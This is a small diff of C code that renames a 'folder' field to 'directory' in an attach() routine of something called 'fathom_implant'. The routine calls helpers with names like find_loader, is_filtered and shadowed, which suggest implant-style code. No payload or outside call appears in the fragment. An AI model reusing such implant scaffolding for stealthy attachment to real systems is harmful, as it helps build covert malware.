@@ -9,13 +9,13 @@
 
 static u64 attach(void)
 {
-	u64 n = text_length(fathom_implant.folder, PATH_MOST);
+	u64 n = text_length(fathom_implant.directory, PATH_MOST);
 	struct arena *a;
 
 	if (!n || n + 64 > PATH_MOST)
 		return ATTACH_UNFIT;
-	memcpy(folder, fathom_implant.folder, n);
-	folder_length = n;
+	memcpy(directory, fathom_implant.directory, n);
+	directory_length = n;
 	if (!read_auxiliary() || is_filtered() || !find_loader() || !read_plan() || !find_clock())
 		return ATTACH_UNFIT;
 	if (shadowed)
